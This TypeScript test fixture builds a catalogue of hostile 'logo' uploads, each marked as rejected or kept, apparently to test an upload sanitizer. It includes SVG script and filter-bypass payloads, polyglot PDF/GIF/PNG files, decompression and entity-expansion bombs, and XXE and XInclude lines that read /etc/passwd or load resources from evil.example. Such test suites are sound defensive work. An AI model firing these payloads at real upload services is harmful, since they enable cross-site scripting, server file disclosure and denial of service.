import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { FILE_KINDS } from '@ensaya/contract/archivos.ts';
import sharp from 'sharp';

/** Hostile files sent as a logo. `kept`: usable pictures, which are redrawn so that no part of `CANARY` is left. */
export type HostileFile = { name: string; bytes: Buffer; outcome: 'kept' | 'type' | 'size' };

export const CANARY = 'payload-4f1d';
const SCRIPT = `<script>document.title='${CANARY}';alert('${CANARY}')</script>`;
export const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;

const noisy = await sharp({
  create: { width: 120, height: 90, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
})
  .png()
  .toBuffer();
export const [png, jpeg, webp] = [noisy, await sharp(noisy).jpeg().toBuffer(), await sharp(noisy).webp().toBuffer()];
export const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share));
export const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part as string)));
const svg = (inside: string, attributes = '') =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" ${attributes}><rect width="50" height="50" fill="#0b7a75"/>${inside}</svg>`,
  );
const zip = join('PK\x03\x04', Buffer.alloc(26), CANARY, 'PK\x05\x06', Buffer.alloc(18));

/** A chunk of a PNG, with its checksum. */
function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(join(type, data)));
  return join(length, type, data, crc);
}
const HEADER_END = 33;
const withChunk = (type: string, data: string) =>
  join(png.subarray(0, HEADER_END), chunk(type, Buffer.from(data)), png.subarray(HEADER_END));

/** One bit per pixel, all black: small when compressed, megabytes when decoded. */
function pngBomb(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1;
  return join(
    png.subarray(0, 8),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(side * (side / 8 + 1)))),
    chunk('IEND', Buffer.alloc(0)),
  );
}
const bomb = pngBomb(16_000);

function withJpegSize(side: number): Buffer {
  const bytes = Buffer.from(jpeg);
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(side, frame + 5);
  bytes.writeUInt16BE(side, frame + 7);
  return bytes;
}
function withWebpSize(side: number): Buffer {
  const bytes = Buffer.from(webp);
  bytes.writeUInt16LE(side, 26);
  bytes.writeUInt16LE(side, 28);
  return bytes;
}
const comment = (text: string) => {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(text.length + 2, 2);
  return join(jpeg.subarray(0, 2), head, text, jpeg.subarray(2));
};
const withRiffChunk = (data: string) => {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(data.length);
  const bytes = join(webp, 'EXIF', length, data, data.length % 2 ? '\0' : '');
  bytes.writeUInt32LE(bytes.length - 8, 4);
  return bytes;
};
const uses = Array.from({ length: 30 }, (_, n) => `<g id="u${n + 1}">${`<use href="#u${n}"/>`.repeat(10)}</g>`).join('');

const of = (outcome: HostileFile['outcome'], files: Record<string, Buffer | string>): HostileFile[] =>
  Object.entries(files).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes as string), outcome }));

export const HOSTILE_FILES: HostileFile[] = [
  ...of('type', {
    nothing: '',
    text: 'logo',
    HTML,
    PHP: `<?php echo '${CANARY}'; ?>`,
    JSON: '{"svg":"<svg/>"}',
    PDF: `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert('${CANARY}'))>>>>endobj`,
    GIF: await sharp(noisy).gif().toBuffer(),
    'GIF that is a script': `GIF89a/*${'\0'.repeat(20)}*/=1;alert('${CANARY}')`,
    TIFF: await sharp(noisy).tiff().toBuffer(),
    AVIF: await sharp(noisy).resize(16).avif({ effort: 0 }).toBuffer(),
    HEIC: join(Buffer.from([0, 0, 0, 24]), 'ftypheic', Buffer.alloc(200)),
    MP4: join(Buffer.from([0, 0, 0, 24]), 'ftypisom', Buffer.alloc(200)),
    MP3: join('ID3\x04', Buffer.alloc(200)),
    BMP: join('BM', Buffer.alloc(200)),
    ICO: join(Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(200)),
    PSD: join('8BPS\0\x01', Buffer.alloc(200)),
    ZIP: zip,
    'Windows program': join('MZ', Buffer.alloc(200)),
    'Linux program': join('\x7fELF', Buffer.alloc(200)),
    'compressed SVG': gzipSync(svg('')),
    'HTML around an SVG': `<html>${svg('')}</html>`,
    'HTML behind the beginning of a PNG': join(png.subarray(0, 8), HTML),
    'beginning of a PNG': png.subarray(0, 8),
    'beginning of a JPEG': jpeg.subarray(0, 4),
    'RIFF that is sound': join('RIFF', Buffer.alloc(4), 'WAVEfmt ', Buffer.alloc(100)),
    'WEBP without a picture': join('RIFF', Buffer.from([4, 0, 0, 0]), 'WEBP'),
    'PNG cut at a tenth': cut(png, 0.1),
    'PNG cut in half': cut(png, 0.5),
    'PNG cut near its end': cut(png, 0.99),
    'JPEG cut in half': cut(jpeg, 0.5),
    'JPEG cut near its end': cut(jpeg, 0.99),
    'WEBP cut in half': cut(webp, 0.5),
    'WEBP cut near its end': cut(webp, 0.99),
    'PNG of 256 million pixels': bomb,
    'JPEG of 4,000 million pixels': withJpegSize(65_500),
    'WEBP of 268 million pixels': withWebpSize(16_383),
    'SVG with a script': svg(SCRIPT),
    'SVG with a script under another prefix': svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">alert('${CANARY}')</s:script>`),
    'SVG with a script from elsewhere': svg('<script href="https://evil.example/x.js"/>'),
    'SVG whose style sheet is parted by a comment': svg('<style>@imp<!-- -->ort "https://evil.example/a.css";</style>'),
    'SVG whose style sheet is parted by CDATA': svg('<style>rect{fill:u<![CDATA[rl(https://evil.example/a.svg#x)]]>}</style>'),
    'SVG that acts on load': svg('', `onload="alert('${CANARY}')"`),
    'SVG that acts on a click': svg(`<circle r="9" OnClick='alert("${CANARY}")'/>`),
    'SVG with a javascript: link': svg(`<a href="javascript:alert('${CANARY}')"><rect width="9" height="9"/></a>`),
    'SVG with an escaped javascript: link': svg(`<a xlink:href="&#106;ava&#x73;cript:alert('${CANARY}')"><rect width="9" height="9"/></a>`),
    'SVG that animates into a link': svg(`<a><set attributeName="href" to="javascript:alert('${CANARY}')"/></a>`),
    'SVG with HTML in it': svg(
      `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</body></foreignObject>`,
    ),
    'SVG with a picture from elsewhere': svg('<image width="9" height="9" href="https://evil.example/x.png"/>'),
    'SVG with a picture without a scheme': svg('<image width="9" height="9" href="//evil.example/x.png"/>'),
    'SVG with a file of this machine': svg('<image width="9" height="9" xlink:href="file:///etc/passwd"/>'),
    'SVG that uses another': svg('<use href="https://evil.example/x.svg#a"/>'),
    'SVG with HTML as data': svg(`<image width="9" height="9" href="data:text/html,${encodeURIComponent(SCRIPT)}"/>`),
    'SVG with an SVG as data': svg(`<image width="9" height="9" href="data:image/svg+xml;base64,${svg(SCRIPT).toString('base64')}"/>`),
    'SVG with an SVG that claims to be a PNG': svg(
      `<image width="9" height="9" href="data:image/png;base64,${svg(SCRIPT).toString('base64')}"/>`,
    ),
    'SVG with a PNG of 256 million pixels': svg(`<image width="9" height="9" href="data:image/png;base64,${bomb.toString('base64')}"/>`),
    'SVG that imports a style sheet': svg('<style>@import "https://evil.example/x.css";</style>'),
    'SVG with a fill from elsewhere': svg('<rect width="9" height="9" fill="url(https://evil.example/x.svg#a)"/>'),
    'SVG with an address in CSS escapes': svg('<style>rect{fill:\\75rl(https://evil.example/x)}</style>'),
    'SVG with a font from elsewhere': svg('<style><![CDATA[@font-face{font-family:x;src:url(https://evil.example/x.woff)}]]></style>'),
    'SVG with a style sheet from elsewhere': join('<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>', svg('')),
    'SVG with entities that multiply': join(
      `<!DOCTYPE svg [<!ENTITY a "${CANARY}">${Array.from({ length: 12 }, (_, n) => `<!ENTITY a${n} "${`&a${n ? n - 1 : ''};`.repeat(10)}">`).join('')}]>`,
      svg('<text>&a11;</text>'),
    ),
    'SVG with an entity that is a file': join('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', svg('<text y="50">&x;</text>')),
    'SVG with a declaration from elsewhere': join('<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">', svg('')),
    'SVG that includes a file': svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    'SVG in UTF-16 with a script': Buffer.from(`\uFEFF${svg(SCRIPT)}`, 'utf16le'),
    'SVG in UTF-7 with a script': join('<?xml version="1.0" encoding="UTF-7"?>', svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')),
    'SVG a thousand deep': svg(`${'<g>'.repeat(1000)}${'</g>'.repeat(1000)}`),
    'SVG of fifty thousand parts': svg('<g/>'.repeat(50_000)),
    'SVG that uses itself 10³⁰ times': svg(`<defs><rect id="u0" width="1" height="1"/>${uses}</defs><use href="#u30"/>`),
    'SVG that does not end': svg('<g').subarray(0, -6),
    'SVG of no shape': '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="30000"/>',
  }),
  ...of('size', { 'a byte too much': join(png, Buffer.alloc(FILE_KINDS.logo.bytes + 1 - png.length)) }),
  ...of('kept', {
    'PNG of exactly the limit': join(png, Buffer.alloc(FILE_KINDS.logo.bytes - png.length)),
    'PNG with HTML behind it': join(png, HTML),
    'PNG with an archive behind it': join(png, zip),
    'PNG with a script in its text': withChunk('tEXt', `Comment\0${SCRIPT}`),
    'JPEG with a script as its comment': comment(SCRIPT),
    'JPEG with PDF behind it': join(jpeg, `%PDF-1.7 ${CANARY}`),
    'JPEG with a script in its EXIF': await sharp(noisy)
      .jpeg()
      .withExif({ IFD0: { ImageDescription: SCRIPT } })
      .toBuffer(),
    'WEBP with a script in its EXIF': withRiffChunk(SCRIPT),
    'WEBP with HTML behind it': join(webp, HTML),
    'SVG with a script in a comment': svg(`<!-- ${SCRIPT} -->`),
    'SVG with a script as words': svg(`<text y="50">${SCRIPT.replaceAll('<', '&lt;')}</text>`),
    'SVG with a very large size':
      '<svg xmlns="http://www.w3.org/2000/svg" width="20000" height="20000"><rect width="9000" height="9000"/></svg>',
  }),
];
